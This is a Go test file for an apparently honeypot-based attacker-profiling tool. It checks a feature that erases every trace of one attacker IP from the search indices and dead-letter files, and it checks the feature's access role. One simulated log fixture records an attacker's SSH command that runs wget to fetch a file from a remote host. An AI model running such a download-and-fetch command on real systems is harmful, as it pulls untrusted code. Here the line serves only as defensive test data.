package operate

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"dossier/analyst"
	"dossier/conf/roles"
	"dossier/correlate/state"
	"dossier/esindex"
	"dossier/plugin/chunk/chunktest"
	"dossier/plugin/options"
	"dossier/testbed/e2e"
	"dossier/testbed/esnode"
	"dossier/testbed/host"
)

// deed is a chunk of an address that fetches a file, mails somebody and asks for a page.
func deed(n int, address string) (tag string, data []byte) {
	line := func(decoy, app, what string) string {
		return fmt.Sprintf(`<134>1 2026-11-02T03:04:05.%06d+00:00 %s %s - %s src_ip=%q]`, n, decoy, app, what, address)
	}
	return fmt.Sprint("deed", n), chunktest.Lines(
		e2e.RecordTime, "log",
		line("web-1", "ssh", `command [relay@55555 command="wget http://198.51.100.7/x"`),
		line("web-2", "smtp", `rcpt_to [relay@55555 value="<ceo@acme.com>" outcome="accepted"`),
		line("web-2", "http", fmt.Sprintf(`request [relay@55555 path="/%d"`, n)),
	)
}

// naming returns the documents of the prefix that name an address, in what they show or
// in their states.
func naming(t *testing.T, node *esnode.Node, prefix, address string) (out []string) {
	t.Helper()
	of, err := prefixOf(address)
	if err != nil {
		t.Fatal(err)
	}
	node.Must(t, "POST", prefix+"-*/_refresh", nil)
	found := node.Must(t, "POST", prefix+"-*/_search?size=1000", nil)
	for _, h := range found["hits"].(map[string]any)["hits"].([]any) {
		hit := h.(map[string]any)
		b, err := json.Marshal(hit["_source"])
		if err != nil {
			t.Fatal(err)
		}
		encoded, _ := hit["_source"].(map[string]any)["state"].(string)
		state, err := base64.StdEncoding.DecodeString(encoded)
		if err != nil {
			t.Fatal(err)
		}
		if text := fmt.Sprint(hit["_id"], " ", string(b), " ", string(state)); quotes([]byte(text), of) {
			out = append(out, fmt.Sprint(hit["_index"], " ", hit["_id"]))
		}
	}
	return out
}

// TestForget: while sensors write, and with what they have in their caches, nothing names
// the address afterwards, all others count as before, a chunk that comes again brings nothing
// back, and a new one opens a new profile.
func TestForget(t *testing.T) {
	admin, node := plain(t, true, nil)
	prefix := admin.o.IndexPrefix
	const gone, other, newcomer = "203.0.113.9", "203.0.113.8", "203.0.113.90"
	h := e2e.StartHost(t, host.Options{Workers: 2, Properties: map[string]string{
		"es_hosts": node.URL, "index_prefix": prefix, "sensor_id": "s1", "dead_letter_path": filepath.Join(t.TempDir(), "letters"), "commit_timeout": "4s",
	}})
	deliver := func(n int, address string) {
		ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
		defer cancel()
		for tag, data := deed(n, address); ; time.Sleep(100 * time.Millisecond) {
			if code, err := h.Flush(ctx, tag, data); err != nil || code == host.Error {
				t.Errorf("chunk %d: %v, %v", n, code, err)
				return
			} else if code == host.OK {
				return
			}
		}
	}
	for n := range 3 {
		deliver(n, gone)
		deliver(100+n, other)
	}
	deliver(200, newcomer)
	node.Must(t, "POST", analyst.NotesIndex(prefix)+"/_doc?refresh=true", `{"@timestamp":"2026-11-02T00:00:00Z","attacker":"203.0.113.9","author":"a","note":"n"}`)
	if n := len(naming(t, node, prefix, gone)); n < 6 {
		t.Fatalf("only %d documents name it", n)
	}
	known, err := admin.Known(t.Context(), gone)
	if err != nil || known.Profiles != 1 || known.Domains != 1 || known.Hours != 1 || known.Transitions < 1 || known.Notes != 1 || known.Indicators != 2 || known.Elsewhere != 0 {
		t.Fatalf("%v, %v", known, err)
	}
	if k, err := admin.Known(t.Context(), "198.51.100.7"); err != nil || k.Any() || k.Elsewhere != 2 {
		t.Errorf("a host that a file came from: %+v, %v", k, err)
	}

	stop, stopped := make(chan struct{}), make(chan int)
	go func() {
		n := 103
		for ; ; n++ {
			select {
			case <-stop:
				stopped <- n - 100
				return
			default:
				deliver(n, other)
			}
		}
	}()
	var steps []string
	err = admin.Forget(t.Context(), gone, quiet, func(s esindex.Step) { steps = append(steps, s.String()) })
	close(stop)
	others := <-stopped
	if err != nil {
		t.Fatal(err)
	}
	told := strings.Join(steps, "\n")
	for _, want := range []string{
		"profile " + prefix + "-attackers: 1 deleted", "mail domains " + prefix + "-smtp-targets: 1 deleted", "hours " + prefix + "-activity-*: 1 deleted",
		fmt.Sprintf("transitions %s-transitions-*: %d deleted", prefix, known.Transitions), "notes and verdicts " + prefix + "-notes: 1 deleted", "indicators " + prefix + "-indicators: 2 written without it",
	} {
		if !strings.Contains(told, want) {
			t.Errorf("no %q in\n%s", want, told)
		}
	}
	if left := naming(t, node, prefix, gone); len(left) > 0 {
		t.Errorf("still there: %q", left)
	}
	document := func(index, id string) map[string]any {
		return node.Must(t, "GET", prefix+"-"+index+"/_doc/"+id, nil)["_source"].(map[string]any)
	}
	url := state.IndicatorID("url", "http://198.51.100.7/x")
	wantURL := func(when string, count int, attackers ...any) {
		t.Helper()
		d := document("indicators", url)
		if d["count"] != float64(count) || !slices.Equal(d["attackers"].([]any), attackers) || d["attacker_count"] != float64(len(attackers)) {
			t.Errorf("%s: %v events, %v, %v attackers; want %d, %v", when, d["count"], d["attackers"], d["attacker_count"], count, attackers)
		}
	}
	// Nothing of the others was lost or doubled beside it.
	wantURL("afterwards", 3+others+1, other, newcomer)
	if d := document("attackers", other); d["event_count"] != float64(3*others) {
		t.Errorf("%v events of another attacker, want %d", d["event_count"], 3*others)
	}
	if known, err := admin.Known(t.Context(), gone); err != nil || known.Any() {
		t.Errorf("%v, %v", known, err)
	}

	// What was delivered is found in the ledger.
	deliver(1, gone)
	if left := naming(t, node, prefix, gone); len(left) > 0 {
		t.Errorf("a chunk that came again brought back: %q", left)
	}
	// The sensor has the old documents in its cache: their versions conflict.
	deliver(300, gone)
	if d := document("attackers", gone); d["event_count"] != float64(3) {
		t.Errorf("the new profile has %v events, want 3", d["event_count"])
	}
	wantURL("with the new profile", 3+others+2, other, gone, newcomer)
	if err := admin.Forget(t.Context(), gone, quiet, func(esindex.Step) {}); err != nil {
		t.Fatal(err)
	}
	wantURL("without it again", 3+others+2, other, newcomer)

	// Whose counts can't be parted, and whose marking would be another.
	node.Must(t, "PUT", prefix+"-attackers/_doc/2001:db8::%2F64?refresh=true", `{"uuid":"x"}`)
	if _, err := admin.Known(t.Context(), "2001:db8::5"); err == nil || !strings.Contains(err.Error(), "dossier forget 2001:db8::/64") {
		t.Errorf("an address of a network: %v", err)
	}
	o := admin.o
	o.TLP = "RED"
	red, err := Open(o, "test")
	if err != nil {
		t.Fatal(err)
	}
	defer red.Close()
	if err := red.Forget(t.Context(), newcomer, quiet, func(esindex.Step) {}); err == nil || !strings.Contains(err.Error(), "--tlp") {
		t.Errorf("another marking: %v", err)
	}
}

// TestForgetRole: the role is enough, and none of its privileges is too much.
func TestForgetRole(t *testing.T) {
	s := secured(t)
	prefix, admin := s.setUp(t)
	if r, err := admin.Replay(t.Context(), lettersIn(t, map[string][]string{"a.jsonl": {letter(9101, admin.indices.Attackers(), "192.0.2.78"), thingLetter(9102, prefix, "192.0.2.78", "192.0.2.79")}}), quiet); err != nil || r.Written != 2 {
		t.Fatalf("%+v, %v", r, err)
	}
	var told []string
	needed(t, roles.Forget, get(t, roles.Forget, prefix), func(role roles.Role) error {
		as := s.as(t, prefix, role)
		if _, err := as.Known(t.Context(), "192.0.2.78"); err != nil {
			return err
		}
		return as.Forget(t.Context(), "192.0.2.78", quiet, func(s esindex.Step) { told = append(told, s.Done) })
	})
	if !slices.Equal(told, []string{"1 deleted", "0 deleted", "0 deleted", told[3], "0 deleted", "1 written without it"}) {
		t.Errorf("%q", told)
	}
	as := s.as(t, prefix, get(t, roles.Forget, prefix))
	for _, try := range [][3]string{
		{"DELETE", "/" + prefix + "-attackers"},
		{"PUT", "/" + prefix + "-attackers/_doc/192.0.2.78", "{}"},
		{"PUT", "/" + prefix + "-notes/_doc/x", "{}"},
		{"DELETE", "/" + prefix + "-indicators/_doc/x"},
		{"POST", "/" + prefix + "-chunks-*/_search"},
		{"POST", "/" + prefix + "-sensors/_search"},
	} {
		var body []byte
		if try[2] != "" {
			body = []byte(try[2])
		}
		var found struct {
			Shards struct{ Total int } `json:"_shards"`
		}
		if err := as.client.Call(t.Context(), "try", try[0], try[1], body, &found); !isForbidden(err) && (err != nil || try[1] != "/"+prefix+"-chunks-*/_search" || found.Shards.Total > 0) {
			t.Errorf("%s %s with the role forget: %v", try[0], try[1], err)
		}
	}
}

// thingLetter is a letter of a URL that addresses used, one event each.
func thingLetter(n int, prefix string, addresses ...string) string {
	var events []string
	for _, a := range addresses {
		events = append(events, fmt.Sprintf(`{"time":1767744000000000,"address":%q,"type":"command","kind":1,"proof":"session","source":"%s/32","use":"fetched"}`, a, a))
	}
	return fmt.Sprintf(`{"time":"2026-01-08T00:00:00Z","reason":"x","chunk":"%032x","minute":29464320,"index":"%s-indicators","id":%q,"class":3,"events":{"sensor":"s","source":"%s/32","kind":"url","value":"http://a/","events":[%s]}}`,
		n, prefix, state.IndicatorID("url", "http://a/"), addresses[len(addresses)-1], strings.Join(events, ","))
}

// TestForgetLetters: of the dead letters, whatever state they are in, nothing of the
// attacker is left that can be told apart, and all others to the byte.
func TestForgetLetters(t *testing.T) {
	o, err := options.Parse(func(string) string { return "" }, func(string) {})
	if err != nil {
		t.Fatal(err)
	}
	admin, err := Open(o, "test")
	if err != nil {
		t.Fatal(err)
	}
	defer admin.Close()
	prefix := admin.o.IndexPrefix
	index := admin.indices.Attackers()
	const gone, other = "203.0.113.9", "203.0.113.90"
	unparsed := func(n int, text string) string {
		return strings.Replace(rawLetter(n, text), `"tag":"t"`, `"tag":"t","unparsed":true`, 1)
	}
	keep := []string{
		letter(2, index, other), letter(3, "other-attackers", gone), rawLetter(4, "x"+other), unparsed(5, other), thingLetter(6, prefix, other), "no letter", rawLetter(7, "\xd9\x31"+gone+" - GET /"),
	}
	mixed, rest := thingLetter(8, prefix, other, gone), thingLetter(8, prefix, other)
	dir := lettersIn(t, map[string][]string{
		"20260101T000000.000Z-000000-aaaaaaaa.jsonl":          append(slices.Clone(keep), letter(1, index, gone), mixed, unparsed(9, "src="+gone+":22"), thingLetter(10, prefix, gone)),
		"20260101T000001.000Z-000000-aaaaaaaa.jsonl.replayed": {letter(11, index, gone), letter(12, index, other)},
		"20260101T000002.000Z-000000-aaaaaaaa.jsonl":          {letter(13, index, gone), strings.Replace(letter(14, prefix+"-activity-2026.01", gone), gone+`","events"`, gone+`|2026-01-07T00","events"`, 1)},
		"20260101T000003.000Z-000000-aaaaaaaa.jsonl":          {letter(15, index, other)},
		"20260101T000004.000Z-000000-aaaaaaaa.jsonl.kept":     {"damaged " + gone},
	})
	admin.o.DeadLetterPath = dir
	before, err := os.Stat(filepath.Join(dir, "20260101T000003.000Z-000000-aaaaaaaa.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	r, err := admin.ForgetLetters(gone)
	if err != nil || r.Letters != 6 || r.Changed != 1 || r.Files != 3 || r.Raw != 1 || len(r.RawIn) != 1 || r.Foreign != 1 || r.Damaged != 1 || len(r.Busy) != 0 {
		t.Fatalf("%+v, %v", r, err)
	}
	read := func(name string) string {
		b, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	lines := strings.Split(strings.TrimSpace(read("20260101T000000.000Z-000000-aaaaaaaa.jsonl")), "\n")
	var is, want any
	if len(lines) != len(keep)+1 || !slices.Equal(lines[:len(keep)], keep) {
		t.Errorf("others changed: %q", lines)
	} else if json.Unmarshal([]byte(lines[len(keep)]), &is) != nil || json.Unmarshal([]byte(rest), &want) != nil || fmt.Sprint(is) != fmt.Sprint(want) {
		t.Errorf("of the two attackers' letter is left\n%s, want\n%s", lines[len(keep)], rest)
	}
	if got := read("20260101T000001.000Z-000000-aaaaaaaa.jsonl.replayed"); got != letter(12, index, other)+"\n" {
		t.Errorf("of the replayed ones: %s", got)
	}
	if after, err := os.Stat(filepath.Join(dir, "20260101T000003.000Z-000000-aaaaaaaa.jsonl")); err != nil || !os.SameFile(before, after) {
		t.Errorf("a file without it was written: %v", err)
	}
	if got := names(t, dir); strings.Contains(got, "000002") || strings.Contains(got, ".new") {
		t.Errorf("left in the folder: %s", got)
	}
	if r, err := admin.ForgetLetters(gone); err != nil || r.Letters+r.Changed+r.Files != 0 {
		t.Errorf("once more: %+v, %v", r, err)
	}
}

// TestQuotes: an address is found in any of its forms, and not within another.
func TestQuotes(t *testing.T) {
	for _, c := range []struct {
		text, id string
		want     bool
	}{
		{"from 203.0.113.9 port 22", "203.0.113.9", true},
		{"203.0.113.9:4000", "203.0.113.9", true},
		{"at 203.0.113.9.", "203.0.113.9", true},
		{"::ffff:203.0.113.9", "203.0.113.9", true},
		{"203.0.113.99", "203.0.113.9", false},
		{"203.0.113 203.0.113.9.4", "203.0.113.9", false},
		{"[2001:db8:0::5]:22", "2001:db8::5", true},
		{"2001:DB8::7 ", "2001:db8::/64", true},
		{"2001:db8:1::7", "2001:db8::/64", false},
		{strings.Repeat("203.0.113.9.", 50), "203.0.113.9", false},
	} {
		of, err := prefixOf(c.id)
		if err != nil {
			t.Fatal(err)
		}
		if got := quotes([]byte(c.text), of); got != c.want {
			t.Errorf("%q in %q: %v", c.id, c.text, got)
		}
	}
}
